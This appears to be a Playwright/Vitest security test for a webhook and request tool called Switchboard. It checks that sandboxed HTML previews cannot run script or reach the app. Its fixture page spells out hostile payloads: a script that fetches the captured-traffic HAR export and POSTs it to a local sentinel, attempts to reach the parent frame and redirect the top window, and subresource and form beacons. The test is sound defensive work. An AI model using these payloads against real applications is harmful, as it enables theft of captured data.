import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Frame, Locator, Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { curl, openApp, type AppSession } from './harness';

/**
 * HTML that strangers sent (a captured webhook body, a response body) is previewed in a frame that
 * can neither run script nor reach the app: every trick below tries, and a sentinel server on
 * port 0 records anything that gets out. The same hostile page is previewed twice, once as a
 * capture (Webhooks) and once as a response (Requests).
 */
function hostileHtml(sentinel: string): string {
  return `<!doctype html>
<h1 id="mark">inert</h1>
<script>
  document.getElementById('mark').textContent = 'script ran';
  try { parent.document.title = 'pwned'; } catch (e) {}
  try { parent.postMessage({ pwned: 'script' }, '*'); } catch (e) {}
  try { parent.switchboard && parent.switchboard.invoke('engine.info', {}); } catch (e) {}
  fetch('/api/captures/export.har').then((r) => r.text()).then((t) => fetch('${sentinel}/exfil', { method: 'POST', body: t }));
  fetch('${sentinel}/script-fetch');
  try { new WebSocket('ws://' + location.host + '/api/ws'); } catch (e) {}
  try { top.location = '${sentinel}/top'; } catch (e) {}
  document.forms[0] && document.forms[0].submit();
</script>
<img src="data:," onerror="document.getElementById('mark').textContent='handler ran'; parent.postMessage({ pwned: 'handler' }, '*')">
<img src="${sentinel}/img">
<link rel="stylesheet" href="${sentinel}/css">
<link rel="prefetch" href="${sentinel}/prefetch">
<div style="background-image: url('${sentinel}/bg')">styled</div>
<form action="${sentinel}/form" method="post"><input name="a" value="b"></form>
<iframe src="${sentinel}/frame"></iframe>
<object data="${sentinel}/object"></object>
<meta http-equiv="refresh" content="0;url=${sentinel}/refresh">
<a id="link" href="${sentinel}/link" target="_top">a link</a>`;
}

describe('HTML previews are inert', () => {
  let app: AppSession;
  let sentinel: http.Server;
  let sentinelOrigin = '';
  let catcherUrl = '';
  /** Everything the sentinel saw, except the page the Requests test fetches on purpose. */
  const escaped: string[] = [];
  /** Requests from the preview frames that got an answer. */
  const frameFinished: string[] = [];

  beforeAll(async () => {
    sentinel = http.createServer((req, res) => {
      if (req.url === '/hostile') {
        res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
        res.end(hostileHtml(sentinelOrigin));
        return;
      }
      escaped.push(`${req.method} ${req.url}`);
      res.end('');
    });
    sentinel.on('error', () => undefined);
    await new Promise<void>((r) => sentinel.listen(0, '127.0.0.1', r));
    sentinelOrigin = `http://127.0.0.1:${(sentinel.address() as AddressInfo).port}`;

    app = await openApp({ viewport: { width: 1440, height: 900 } });
    const { page } = app;
    const fromPreview = (req: Request) => req.frame() !== page.mainFrame();
    page.on('requestfinished', (req: Request) => {
      if (fromPreview(req)) frameFinished.push(req.url());
    });
    // Anything the preview posts to the app's window lands here.
    await page.evaluate(() => {
      const w = globalThis as unknown as { __messages: unknown[]; addEventListener(t: string, f: (e: { data: unknown }) => void): void };
      w.__messages = [];
      w.addEventListener('message', (e) => w.__messages.push(e.data));
    });

    await page.getByRole('button', { name: /^New$/ }).click();
    const dialog = page.getByRole('dialog', { name: 'New catcher' });
    await dialog.getByLabel('Name', { exact: true }).fill('hostile');
    await dialog.getByRole('button', { name: 'Create and start' }).click();
    const item = page.getByTestId('catcher-item').filter({ hasText: 'hostile' });
    await item.and(page.locator('[data-status="running"]')).waitFor();
    catcherUrl = (await item.getAttribute('data-url')) ?? '';
  });

  afterAll(async () => {
    await app?.close();
    await new Promise<void>((r) => sentinel.close(() => r()));
  });

  /** The preview's frame once its document (the hostile page) is in place. */
  async function previewFrame(scope: Locator): Promise<Frame> {
    const iframe = scope.locator('iframe[title="HTML preview"]');
    expect(await iframe.getAttribute('sandbox')).toBe('');
    await expect.poll(() => iframe.contentFrame().locator('#mark').textContent()).toBe('inert');
    const frame = await (await iframe.elementHandle())?.contentFrame();
    if (!frame) throw new Error('no preview frame');
    return frame;
  }

  async function expectNothingEscaped(frame: Frame): Promise<void> {
    const { page } = app;
    // Give any script, handler, refresh or subresource every chance to act before judging.
    await page.waitForTimeout(1500);
    expect(await frame.locator('#mark').textContent()).toBe('inert');
    expect(await page.title()).toBe('Switchboard');
    expect(await page.evaluate(() => (globalThis as unknown as { __messages: unknown[] }).__messages)).toEqual([]);
    expect(escaped).toEqual([]);
    // Nothing the frame asked for reached the sentinel or the app's API.
    expect(frameFinished.filter((u) => u.startsWith(sentinelOrigin) || u.startsWith(`${app.server.origin}/api`))).toEqual([]);
    // The app itself is untouched and still talking to its engine.
    expect(page.url().startsWith(app.server.origin)).toBe(true);
    await page.getByTestId('engine-state').filter({ hasText: 'Engine ready' }).waitFor({ timeout: 5000 });
    // Clicking a target=_top link inside the sandbox does not navigate the app either.
    await frame.locator('#link').click({ timeout: 5000 }).catch(() => undefined);
    await page.waitForTimeout(500);
    expect(page.url().startsWith(app.server.origin)).toBe(true);
    expect(escaped).toEqual([]);
  }

  it('a captured webhook body (Webhooks)', async () => {
    const { page } = app;
    await curl(['-X', 'POST', `${catcherUrl}/hostile`, '-H', 'Content-Type: text/html', '--data-binary', hostileHtml(sentinelOrigin)]);
    const row = page.locator('[data-testid="capture-row"][data-url="/hostile"]');
    await row.click();
    const detail = page.getByTestId('capture-detail');
    await expect.poll(() => page.getByTestId('detail-url').textContent()).toBe('/hostile');
    await detail.getByRole('tab', { name: /^Body/ }).click();
    await detail.getByRole('tab', { name: 'Preview' }).click();
    await expectNothingEscaped(await previewFrame(detail));
  });

  it('a response body (Requests)', async () => {
    const { page } = app;
    await page.getByRole('button', { name: 'Requests', exact: true }).click();
    await page.getByLabel('URL', { exact: true }).fill(`${sentinelOrigin}/hostile`);
    await page.getByRole('button', { name: 'Send' }).click();
    await expect.poll(() => page.getByTestId('status-text').textContent(), { timeout: 15_000 }).toBe('200 OK');
    const response = page.locator('.rq-response');
    await response.getByRole('tab', { name: 'Preview' }).click();
    await expectNothingEscaped(await previewFrame(response));
    // Two locks, both seen holding: the sandbox stopped the script, the inherited CSP every load.
    const notes = app.errors.join('\n');
    expect(notes).toContain('Blocked script execution');
    expect(notes).toContain("Refused to execute the redirect specified via '<meta http-equiv='refresh'");
    expect(notes).toContain('Unsafe attempt to initiate navigation');
    for (const what of ['/img', '/css', '/bg', '/object']) expect(notes).toContain(`${sentinelOrigin}${what}' violates the following Content Security Policy`);
    const appErrors = app.errors.filter((e) => !/Blocked script execution|Blocked form submission|violates the following Content Security Policy|Refused to execute the redirect|Unsafe attempt to initiate navigation/.test(e));
    expect(appErrors).toEqual([]);
  });
});
